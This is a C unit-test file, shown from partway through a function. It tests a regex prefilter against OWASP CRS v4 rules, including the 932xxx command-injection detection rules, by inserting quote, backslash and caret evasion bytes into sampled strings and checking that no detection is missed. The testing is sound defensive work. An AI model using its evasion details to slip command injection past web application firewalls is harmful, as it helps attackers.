    for (size_t k = 0; k < f->n; k++)
        m = f->len[k] < m ? f->len[k] : m;
    return m;
}

static void print_hist(const char *what, const size_t *h)
{
    print_message("  %-22s 1 byte %3zu, 2: %3zu, 3: %3zu, 4: %3zu, 5: %3zu, 6+: %3zu, none: %3zu\n",
                  what, h[1], h[2], h[3], h[4], h[5], h[6], h[0]);
}

static void test_crs_deleting(void **state)
{
    (void)state;
    double t0 = now_s();
    pats_t ps = {0};
    load_crs(&ps);
    corpus_t corpus = {0};
    crs_corpus(&corpus);

    /* hist[v][0]: no factors; [1..6]: the shortest factor's length */
    size_t with[NVARIANTS] = {0}, hist[NVARIANTS][7] = {{0}}, rce[NVARIANTS][7] = {{0}};
    size_t best[NVARIANTS][7] = {{0}}, gained[NVARIANTS] = {0}, lost[NVARIANTS] = {0};
    size_t nfactors[NVARIANTS] = {0}, maxf[NVARIANTS] = {0}, rce_n = 0, rce_two = 0;
    tally_t t[NVARIANTS] = {{0}};
    buf_t samples[200] = {{0}};
    for (size_t i = 0; i < ps.n; i++) {
        const char *re = ps.v[i].re;
        size_t len = strlen(re);
        rp_factors_t f[NVARIANTS];
        size_t ml[NVARIANTS];
        for (size_t v = 0; v < NVARIANTS; v++) {
            bool have = variant_factors(&variants[v], re, len, &f[v]) == 0;
            ml[v] = have ? min_factor(&f[v]) : 0;
            with[v] += have;
            nfactors[v] += f[v].n;
            maxf[v] = f[v].n > maxf[v] ? f[v].n : maxf[v];
            hist[v][ml[v] >= 6 ? 6 : ml[v]]++;
            /* what the prefilter uses: the deletion factors when longer */
            size_t b = v && ml[v] > ml[0] ? ml[v] : ml[0];
            best[v][b >= 6 ? 6 : b]++;
            gained[v] += v && ml[v] > ml[0];
            lost[v] += v && ml[v] == 0 && ml[0] > 0;
            if (is_rce_id(ps.v[i].id))
                rce[v][ml[v] >= 6 ? 6 : ml[v]]++;
        }
        if (is_rce_id(ps.v[i].id)) {
            rce_n++;
            rce_two += ml[2] >= 2;
            print_message("  %s (%s):\n", ps.v[i].id, ps.v[i].where);
            for (size_t v = 0; v < NVARIANTS; v++) {
                print_message("    %-16s %3zu factors, shortest %zu: ", variants[v].name, f[v].n,
                              ml[v]);
                rp_factors_t head = f[v];
                head.n = head.n > 10 ? 10 : head.n;
                print_set(&head);
            }
        }
        rx_t rx;
        assert_true(rx_compile(&rx, re, len, true));
        /* strings sampled from the pattern, alone, inside others, with an
         * evasion byte inserted */
        gp_t g = {re, re + len, false};
        node_t *root = gp_alt(&g, 0);
        for (int k = 0; k < 200; k++) {
            buf_t *s = &samples[k];
            s->n = 0;
            buf_put(s, "", 0);
            if (k % 4 == 3)
                buf_s(s, "x ");
            sample(root, s);
            if (k % 2 && g.caseless)
                flip_case(s);
            if (k % 5 == 4) {
                size_t at = rnd((uint32_t)s->n + 1);
                buf_c(s, 0);
                memmove(s->p + at + 1, s->p + at, s->n - 1 - at);
                s->p[at] = "'\"\\^"[rnd(4)];
            }
        }
        node_free(root);
        for (size_t v = 1; v < NVARIANTS; v++) {
            if (ml[v] == 0)
                continue;
            size_t before = t[v].violations;
            finder_t fd;
            finder_init(&fd, &f[v]);
            for (size_t k = 0; k < corpus.n; k++)
                check_subject_del(&rx, re, &fd, variants[v].del, corpus.s[k], corpus.len[k], &t[v]);
            for (int k = 0; k < 200; k++)
                check_subject_del(&rx, re, &fd, variants[v].del, samples[k].p, samples[k].n, &t[v]);
            finder_free(&fd);
            if (t[v].violations > before)
                print_message("  at %s (%s)\n", ps.v[i].where, variants[v].name);
        }
        rx_free(&rx);
        for (size_t v = 0; v < NVARIANTS; v++)
            rp_factors_free(&f[v]);
    }
    for (int k = 0; k < 200; k++)
        free(samples[k].p);
    for (size_t v = 0; v < NVARIANTS; v++) {
        print_message("CRS v4 @rx, %s: %zu of %zu with factors (%.1f%%); %zu factors in all, at "
                      "most %zu for one pattern\n",
                      variants[v].name, with[v], ps.n, 100.0 * (double)with[v] / (double)ps.n,
                      nfactors[v], maxf[v]);
        print_hist("shortest factor:", hist[v]);
        print_hist("the 932 rules above:", rce[v]);
        if (v == 0)
            continue;
        print_message("  longer than plain for %zu patterns, lost (plain only) for %zu\n",
                      gained[v], lost[v]);
        print_hist("prefilter's choice:", best[v]);
        print_message("  checked %zu subjects: %zu PCRE2 matches, %zu defused near misses, %zu "
                      "limits, %zu violations\n",
                      t[v].subjects, t[v].matches, t[v].defused, t[v].limits, t[v].violations);
    }
    print_message("CRS v4 under deletion: %.1f s\n", now_s() - t0);
    for (size_t v = 1; v < NVARIANTS; v++) {
        assert_int_equal(t[v].violations, 0);
        assert_true(t[v].matches > 10000);
        assert_true(with[v] * 2 >= ps.n);
    }
    /* The Windows lists (932125, 932370, 932371, 932380: "[\"\^]*" between
     * letters) go from 1 byte to their 2-letter commands once '^' is
     * deleted. The Unix lists stay at one letter: between any two letters
     * they allow "$..." (a shell expansion, letters included), which no
     * byte deletion removes. */
    assert_true(rce_n >= sizeof(rce_ids) / sizeof(rce_ids[0]));
    assert_true(rce_two >= 4);
    for (size_t i = 0; i < ps.n; i++)
        free(ps.v[i].re);
    free(ps.v);
    corpus_free(&corpus);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hand),    cmocka_unit_test(test_hand_deleting),
        cmocka_unit_test(test_hostile), cmocka_unit_test(test_random),
        cmocka_unit_test(test_crs),     cmocka_unit_test(test_crs_deleting),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
